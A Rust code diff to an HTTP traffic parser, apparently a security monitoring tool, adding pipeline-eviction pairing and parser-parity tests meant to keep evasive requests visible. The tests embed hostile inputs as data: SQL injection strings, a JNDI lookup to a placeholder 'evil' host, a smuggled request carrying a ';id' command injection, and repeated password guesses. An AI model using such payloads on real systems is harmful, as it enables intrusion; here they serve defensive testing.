@@ -85,7 +85,18 @@ struct Q {
     /// Offset in the client's stream acknowledged by the packet being processed (server side).
     ack_off: Option<u64>,
     max_pending: usize,
+    /// Requests evicted past `max_pending` (reported without their responses), oldest first,
+    /// run-length by kind: the next responses answer them, so later pairings stay exact.
+    evicted: VecDeque<(ReqKind, u64)>,
+    /// The response being parsed answers an evicted request: it is counted, not paired.
+    skipping: bool,
+    /// Responses dropped that way.
+    pub evicted_responses: u64,
 }
+
+/// Runs of evicted request kinds kept per connection (16 bytes each); past it, runs merge
+/// (pairing stays exact, only a HEAD's bodiless framing can be missed).
+const MAX_EVICTED_RUNS: usize = 4096;
 
 impl Conn {
     /// `client`: the direction index (0 or 1) whose sender is the client, if the handshake
@@ -106,6 +117,9 @@ impl Conn {
                 role_found: None,
                 ack_off: None,
                 max_pending: cfg.max_pending,
+                evicted: VecDeque::new(),
+                skipping: false,
+                evicted_responses: 0,
             },
         }
     }
@@ -320,6 +334,33 @@ impl Q {
         }
     }
 
+    /// The pipeline is full: report the oldest unanswered request now, without its response,
+    /// and remember that one response still answers it (bounded: a run-length queue).
+    fn evict(&mut self) {
+        self.anomalies.push(HttpAnomaly::TooManyPipelined);
+        let i = self
+            .first_unanswered()
+            .filter(|i| self.pending[*i].state != ReqState::InProgress);
+        let Some(e) = i.and_then(|i| self.pending.remove(i)) else {
+            if let Some(e) = self.pending.pop_front() {
+                let lost = e.resp_lost;
+                if e.req.is_some() || e.resp.is_some() {
+                    self.out.push(Transaction::new(e.req, e.resp, lost));
+                }
+            }
+            return;
+        };
+        let full = self.evicted.len() >= MAX_EVICTED_RUNS;
+        match self.evicted.back_mut() {
+            Some((k, n)) if *k == e.kind || full => *n += 1,
+            _ => self.evicted.push_back((e.kind, 1)),
+        }
+        if e.req.is_some() {
+            self.out.push(Transaction::new(e.req, None, false));
+        }
+        self.pop_ready();
+    }
+
     fn first_unanswered(&self) -> Option<usize> {
         self.pending.iter().position(|e| !e.resp_started)
     }
@@ -367,7 +408,9 @@ impl Events for Q {
     }
 
     fn request_head(&mut self, msg: &Message, _end_off: u64) {
-        let kind = if msg.method.eq_ignore_ascii_case("HEAD") {
+        let kind = if msg.http09 {
+            ReqKind::Http09
+        } else if msg.method.eq_ignore_ascii_case("HEAD") {
             ReqKind::Head
         } else if msg.method.eq_ignore_ascii_case("CONNECT") {
             ReqKind::Connect
@@ -375,25 +418,29 @@ impl Events for Q {
             ReqKind::Other
         };
         if self.pending.len() >= self.max_pending {
-            self.anomalies.push(HttpAnomaly::TooManyPipelined);
-            if let Some(e) = self.pending.pop_front() {
-                let lost = e.resp_lost;
-                if e.req.is_some() || e.resp.is_some() {
-                    self.out.push(Transaction::new(e.req, e.resp, lost));
-                }
-            }
+            self.evict();
         }
         self.pending.push_back(Entry::new(ReqState::InProgress, kind));
     }
 
     fn response_head(&mut self, _msg: &Message) -> ReqKind {
         self.realign();
+        if let Some((kind, n)) = self.evicted.front_mut() {
+            // Responses to evicted requests come before those of the requests still queued.
+            let kind = *kind;
+            *n -= 1;
+            if *n == 0 {
+                self.evicted.pop_front();
+            }
+            self.skipping = true;
+            return kind;
+        }
         let i = match self.first_unanswered() {
             Some(i) => i,
             None => {
                 // A response to a request we never saw (capture started mid-connection, or the
                 // request was lost).
-                self.pending.push_back(Entry::new(ReqState::Lost, ReqKind::Other));
+                self.pending.push_back(Entry::new(ReqState::Lost, ReqKind::Unknown));
                 self.pending.len() - 1
             }
         };
@@ -401,7 +448,21 @@ impl Events for Q {
         self.pending[i].kind
     }
 
+    fn next_response_kind(&self) -> Option<ReqKind> {
+        if let Some((kind, _)) = self.evicted.front() {
+            return Some(*kind);
+        }
+        self.first_unanswered().map(|i| self.pending[i].kind)
+    }
+
     fn done(&mut self, role: Role, msg: Message, end_off: u64) {
+        if role == Role::Response && self.skipping {
+            self.skipping = false;
+            self.evicted_responses += 1;
+            drop(msg);
+            self.pop_ready();
+            return;
+        }
         match role {
             Role::Request => match self.pending.iter_mut().rev().find(|e| e.state == ReqState::InProgress) {
                 Some(e) => {
@@ -444,7 +505,7 @@ impl Events for Q {
                     if self.pending.len() >= self.max_pending {
                         return;
                     }
-                    self.pending.push_back(Entry::new(ReqState::Lost, ReqKind::Other));
+                    self.pending.push_back(Entry::new(ReqState::Lost, ReqKind::Unknown));
                 }
             }
             Role::Response => self.resp_gap = true,
@@ -660,5 +721,360 @@ mod evasion_tests {
         // obs-fold in a request header
         let (_, a) = anomalies(&[(0, b"GET / HTTP/1.1\r\nX: a\r\n b\r\n\r\n")]);
         assert!(a.contains(&HttpAnomaly::ObsFold), "{a:?}");
+    }
+}
+
+/// Issue 12: nothing a server accepts is hidden from apitap (parser parity with nginx).
+#[cfg(test)]
+mod parity_tests {
+    use super::*;
+
+    fn run_cfg(cfg: &HttpConfig, chunks: &[(usize, &[u8])]) -> (Vec<Transaction>, Vec<HttpAnomaly>, Conn) {
+        let mut c = Conn::new(Some(0), cfg);
+        for (i, (d, b)) in chunks.iter().enumerate() {
+            c.data(*d, b, i as u64, None, cfg);
+        }
+        c.flush(99_999, cfg);
+        let (mut t, mut a) = (vec![], vec![]);
+        c.take(&mut t, &mut a);
+        (t, a, c)
+    }
+
+    fn run(chunks: &[(usize, &[u8])]) -> (Vec<Transaction>, Vec<HttpAnomaly>) {
+        let (t, a, _) = run_cfg(&HttpConfig::default(), chunks);
+        (t, a)
+    }
+
+    /// (method, target, status) of each transaction.
+    fn mts(t: &[Transaction]) -> Vec<(String, String, u16)> {
+        t.iter()
+            .map(|t| {
+                (
+                    t.request.as_ref().map_or(String::new(), |m| m.method.clone()),
+                    t.request.as_ref().map_or(String::new(), |m| m.uri.clone()),
+                    t.response.as_ref().map_or(0, |m| m.status),
+                )
+            })
+            .collect()
+    }
+
+    fn s(m: &str, u: &str, st: u16) -> (String, String, u16) {
+        (m.to_string(), u.to_string(), st)
+    }
+
+    const R405: &[u8] = b"HTTP/1.1 405 Not Allowed\r\nContent-Length: 0\r\n\r\n";
+    const R200: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";
+
+    #[test]
+    fn unusual_first_method_does_not_hide_the_connection() {
+        for m in ["AB", "ABCDEFGHIJKLMNOPQRSTU", "get", "M-SEARCH"] {
+            let first = format!("{m} / HTTP/1.1\r\nHost: a\r\n\r\n");
+            let (t, _) = run(&[
+                (0, first.as_bytes()),
+                (1, R405),
+                (0, b"GET /echo?id=1'%20OR%201=1-- HTTP/1.1\r\nHost: a\r\n\r\n"),
+                (1, R200),
+            ]);
+            assert_eq!(
+                mts(&t),
+                vec![s(m, "/", 405), s("GET", "/echo?id=1'%20OR%201=1--", 200)],
+                "{m}"
+            );
+        }
+    }
+
+    #[test]
+    fn junk_before_the_first_request_is_skipped_with_an_anomaly() {
+        let (t, a) = run(&[
+            (0, b"\x01\x02junk junk\r\nGET /after-junk HTTP/1.1\r\nHost: a\r\n\r\n"),
+            (1, R200),
+        ]);
+        assert_eq!(mts(&t), vec![s("GET", "/after-junk", 200)]);
+        assert!(a.contains(&HttpAnomaly::JunkBeforeMessage), "{a:?}");
+        // a direction that never shows a request line is still not HTTP, quietly
+        let cfg = HttpConfig::default();
+        let mut c = Conn::new(Some(0), &cfg);
+        c.data(0, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 1, None, &cfg);
+        assert!(c.not_http());
+    }
+
+    #[test]
+    fn request_lines_nginx_accepts_are_reported() {
+        let (t, a) = run(&[
+            (0, b"GET /v12?q=1'%20UNION%20SELECT HTTP/1.2\r\nHost: a\r\n\r\n"),
+            (1, R200),
+            (0, b"GET /v19 HTTP/1.9\r\nHost: a\r\n\r\n"),
+            (1, R200),
+            (0, b"GET /v101 HTTP/1.01\r\nHost: a\r\n\r\n"),
+            (1, R200),
+            (0, b"GET /trailing HTTP/1.1  \r\nHost: a\r\n\r\n"),
+            (1, R200),
+            (0, b"GET /a b HTTP/1.1\r\nHost: a\r\n\r\n"),
+            (1, R200),
+            (0, b"GET HTTP/1.1\r\nHost: a\r\n\r\n"),
+            (1, R200),
+        ]);
+        assert_eq!(
+            mts(&t),
+            vec![
+                s("GET", "/v12?q=1'%20UNION%20SELECT", 200),
+                s("GET", "/v19", 200),
+                s("GET", "/v101", 200),
+                s("GET", "/trailing", 200),
+                s("GET", "/a b", 200),
+                s("GET", "", 200),
+            ]
+        );
+        assert!(
+            t.iter()
+                .all(|t| t.request.as_ref().is_some_and(|m| m.header("host") == Some("a")))
+        );
+        assert_eq!(t[2].request.as_ref().map(|m| m.minor), Some(1));
+        assert!(a.contains(&HttpAnomaly::UnusualStartLine), "{a:?}");
+        // CONNECT with a space in its target: reported, then the tunnel
+        let (t, _) = run(&[
+            (0, b"CONNECT a b:443 HTTP/1.1\r\n\r\n"),
+            (1, b"HTTP/1.1 200 Connection established\r\n\r\n"),
+        ]);
+        assert_eq!(mts(&t), vec![s("CONNECT", "a b:443", 200)]);
+    }
+
+    /// A HEAD over HTTP/1.2 followed by 30 failed logins: every login pairs with its 401.
+    #[test]
+    fn head_over_http_1_2_pairs_every_later_response() {
+        let mut chunks: Vec<(usize, Vec<u8>)> = vec![
+            (0, b"HEAD /login HTTP/1.2\r\nHost: a\r\n\r\n".to_vec()),
+            (1, b"HTTP/1.1 200 OK\r\nContent-Length: 512\r\n\r\n".to_vec()),
+        ];
+        for i in 0..30 {
+            let body = format!("user=admin&password=guess{i}");
+            chunks.push((
+                0,
+                format!(
+                    "POST /login HTTP/1.1\r\nHost: a\r\nContent-Length: {}\r\n\r\n{body}",
+                    body.len()
+                )
+                .into_bytes(),
+            ));
+            chunks.push((1, b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n".to_vec()));
+        }
+        let refs: Vec<(usize, &[u8])> = chunks.iter().map(|(d, b)| (*d, b.as_slice())).collect();
+        let (t, _) = run(&refs);
+        assert_eq!(t.len(), 31);
+        assert_eq!(mts(&t[..1]), vec![s("HEAD", "/login", 200)]);
+        assert!(
+            t[1..]
+                .iter()
+                .all(|t| t.response.as_ref().map(|r| r.status) == Some(401))
+        );
+    }
+
+    /// A response whose request was never seen announces a body, but a status line follows
+    /// at once: a HEAD's response; the next response is not swallowed.
+    #[test]
+    fn response_to_an_unseen_head_does_not_swallow_the_next() {
+        let cfg = HttpConfig::default();
+        let mut c = Conn::new(Some(0), &cfg);
+        c.gap(0, 40, 1, &cfg);
+        c.data(
+            1,
+            b"HTTP/1.1 200 OK\r\nContent-Length: 512\r\n\r\nHTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n",
+            2,
+            None,
+            &cfg,
+        );
+        c.flush(3, &cfg);
+        let (mut t, mut a) = (vec![], vec![]);
+        c.take(&mut t, &mut a);
+        let st: Vec<u16> = t.iter().filter_map(|t| t.response.as_ref().map(|r| r.status)).collect();
+        assert_eq!(st, vec![200, 401]);
+        assert!(a.contains(&HttpAnomaly::ResponseWithoutBody), "{a:?}");
+    }
+
+    #[test]
+    fn http_0_9_request_and_reply_until_close() {
+        let (t, a) = run(&[(0, b"GET /old-school\r\n"), (1, b"<html>hello</html>")]);
+        assert_eq!(t.len(), 1);
+        let q = t[0].request.as_ref().expect("request");
+        assert_eq!(
+            (q.method.as_str(), q.uri.as_str(), q.protocol()),
+            ("GET", "/old-school", "HTTP/0.9")
+        );
+        let r = t[0].response.as_ref().expect("reply");
+        assert_eq!(r.body, b"<html>hello</html>");
+        assert!(r.http09);
+        assert!(a.contains(&HttpAnomaly::UnusualStartLine), "{a:?}");
+    }
+
+    #[test]
+    fn lower_case_version_and_non_numeric_status_are_responses() {
+        let (t, a) = run(&[
+            (0, b"GET /a HTTP/1.1\r\n\r\n"),
+            (1, b"http/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx"),
+            (0, b"GET /b HTTP/1.1\r\n\r\n"),
+            (1, b"HTTP/1.1 2XX Weird\r\nContent-Length: 1\r\n\r\ny"),
+            (0, b"GET /c HTTP/1.1\r\n\r\n"),
+            (1, R200),
+        ]);
+        assert_eq!(
+            mts(&t),
+            vec![s("GET", "/a", 200), s("GET", "/b", 0), s("GET", "/c", 200)]
+        );
+        assert_eq!(t[1].response.as_ref().map(|r| r.body.clone()), Some(b"y".to_vec()));
+        assert!(a.contains(&HttpAnomaly::InvalidStatus), "{a:?}");
+    }
+
+    #[test]
+    fn chunk_sizes_with_leading_zeros_frame_one_body() {
+        let smuggled = b"GET /smuggled?cmd=;id HTTP/1.1\r\nHost: a\r\n\r\n";
+        let mut req = b"POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
+        req.extend(format!("{:017x}\r\n", smuggled.len()).as_bytes());
+        req.extend(smuggled);
+        req.extend(b"\r\n0000\r\n\r\n");
+        let (t, a) = run(&[(0, &req), (1, R200), (0, b"GET /next HTTP/1.1\r\n\r\n"), (1, R200)]);
+        assert_eq!(
+            mts(&t),
+            vec![s("POST", "/upload", 200), s("GET", "/next", 200)],
+            "{a:?}"
+        );
+        let q = t[0].request.as_ref().expect("request");
+        assert_eq!(q.body, smuggled, "the body is inspected");
+        assert!(!q.truncated && a.is_empty(), "{a:?}");
+    }
+
+    #[test]
+    fn chunk_size_overflow_is_an_anomaly() {
+        let (t, a) = run(&[(
+            0,
+            b"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000000\r\nabc\r\n0\r\n\r\n",
+        )]);
+        assert!(a.contains(&HttpAnomaly::ChunkSizeOverflow), "{a:?}");
+        assert_eq!(
+            t.first().and_then(|t| t.request.as_ref()).map(|m| m.truncated),
+            Some(true)
+        );
+    }
+
+    #[test]
+    fn pipeline_deeper_than_max_pending_keeps_pairing_exact() {
+        let n = 100;
+        let mut reqs = Vec::new();
+        let mut resps = Vec::new();
+        for i in 0..n {
+            let m = if i % 7 == 3 { "HEAD" } else { "GET" };
+            reqs.extend(format!("{m} /r{i} HTTP/1.1\r\nHost: a\r\n\r\n").as_bytes());
+            let body = format!("{i}");
+            resps.extend(format!("HTTP/1.1 200 OK\r\nX-I: {i}\r\nContent-Length: {}\r\n\r\n", body.len()).as_bytes());
+            if m != "HEAD" {
+                resps.extend(body.as_bytes());
+            }
+        }
+        let (t, a, c) = run_cfg(&HttpConfig::default(), &[(0, &reqs), (1, &resps)]);
+        assert!(a.contains(&HttpAnomaly::TooManyPipelined));
+        assert_eq!(t.len(), n);
+        for tx in &t {
+            let q = tx.request.as_ref().expect("every request is reported");
+            let i: u16 = q.uri[2..].parse().expect("index");
+            if let Some(r) = &tx.response {
+                let got = r.header("x-i").and_then(|v| v.parse::<u16>().ok());
+                assert_eq!(got, Some(i), "{} paired with the response of another request", q.uri);
+            }
+        }
+        let answered = t.iter().filter(|t| t.response.is_some()).count();
+        assert_eq!(answered as u64 + c.q.evicted_responses, n as u64);
+        assert!(answered >= 64, "{answered}");
+    }
+
+    #[test]
+    fn control_bytes_in_header_values_are_kept() {
+        let (t, a) = run(&[
+            (
+                0,
+                b"GET /api HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${jndi:ldap://evil/a}\x7f\r\nX-B: a\x01b\r\n\r\n",
+            ),
+            (1, R200),
+        ]);
+        let q = t[0].request.as_ref().expect("request");
+        assert_eq!(q.header("x-api-version"), Some("${jndi:ldap://evil/a}\x7f"));
+        assert_eq!(q.header("x-b"), Some("a\x01b"));
+        assert_eq!(q.header("host"), Some("a"));
+        assert!(a.contains(&HttpAnomaly::HeaderControlChar), "{a:?}");
+    }
+
+    #[test]
+    fn head_over_max_head_keeps_the_request_truncated() {
+        let mut head = b"GET /big?q=1'%20OR%201=1-- HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n".to_vec();
+        let line = format!("X-Pad: {}\r\n", "a".repeat(1000));
+        let mut chunks: Vec<(usize, Vec<u8>)> = vec![(0, std::mem::take(&mut head))];
+        for _ in 0..80 {
+            chunks.push((0, line.as_bytes().to_vec()));
+        }
+        chunks.push((0, b"\r\nhello".to_vec()));
+        chunks.push((1, R200.to_vec()));
+        chunks.push((0, b"GET /after HTTP/1.1\r\n\r\n".to_vec()));
+        chunks.push((1, R200.to_vec()));
+        let refs: Vec<(usize, &[u8])> = chunks.iter().map(|(d, b)| (*d, b.as_slice())).collect();
+        let (t, a) = run(&refs);
+        assert!(a.contains(&HttpAnomaly::HeadTooLong), "{a:?}");
+        assert_eq!(
+            mts(&t),
+            vec![s("GET", "/big?q=1'%20OR%201=1--", 200), s("GET", "/after", 200)]
+        );
+        let q = t[0].request.as_ref().expect("request");
+        assert!(t[0].truncated && q.truncated);
+        assert_eq!(q.header("host"), Some("a"));
+        assert_eq!(q.body, b"hello");
+    }
+
+    #[test]
+    fn content_length_above_i64_max_is_invalid_and_what_follows_is_the_next_request() {
+        let (t, a) = run(&[
+            (
+                0,
+                b"POST /a HTTP/1.1\r\nContent-Length: 18446744073709551615\r\n\r\nGET /b HTTP/1.1\r\n\r\n",
+            ),
+            (1, R200),
+            (1, R200),
+        ]);
+        assert!(a.contains(&HttpAnomaly::InvalidContentLength), "{a:?}");
+        assert_eq!(mts(&t), vec![s("POST", "/a", 200), s("GET", "/b", 200)]);
+    }
+
+    #[test]
+    fn duplicate_x_forwarded_for_lines_are_kept_in_order() {
+        let (t, _) = run(&[(
+            0,
+            b"GET / HTTP/1.1\r\nX-Forwarded-For: 1.1.1.1\r\nX-Forwarded-For: 203.0.113.9\r\n\r\n",
+        )]);
+        let q = t[0].request.as_ref().expect("request");
+        assert_eq!(
+            q.header_values("x-forwarded-for").collect::<Vec<_>>(),
+            vec!["1.1.1.1", "203.0.113.9"]
+        );
+    }
+
+    /// A head arriving a byte at a time is scanned for its end once, not from byte 0 per byte,
+    /// and gives the same message as in one piece.
+    #[test]
+    fn partial_head_is_scanned_once() {
+        let head = format!(
+            "GET /slow HTTP/1.1\r\nHost: a\r\nX-Long: {}\r\n\r\n",
+            "b".repeat(20_000)
+        );
+        let cfg = HttpConfig::default();
+        let mut c = Conn::new(Some(0), &cfg);
+        let t0 = std::time::Instant::now();
+        for (i, b) in head.as_bytes().chunks(1).enumerate() {
+            c.data(0, b, i as u64, None, &cfg);
+        }
+        let per_byte = t0.elapsed();
+        c.data(1, R200, 1 << 20, None, &cfg);
+        c.flush(1 << 21, &cfg);
+        let (mut t, mut a) = (vec![], vec![]);
+        c.take(&mut t, &mut a);
+        assert_eq!(mts(&t), vec![s("GET", "/slow", 200)]);
+        // quadratic re-parsing of 20 KB a byte at a time is ~200M byte visits (seconds);
+        // a single scan is well under a second even in a debug build
+        assert!(per_byte < std::time::Duration::from_secs(2), "{per_byte:?}");
     }
 }
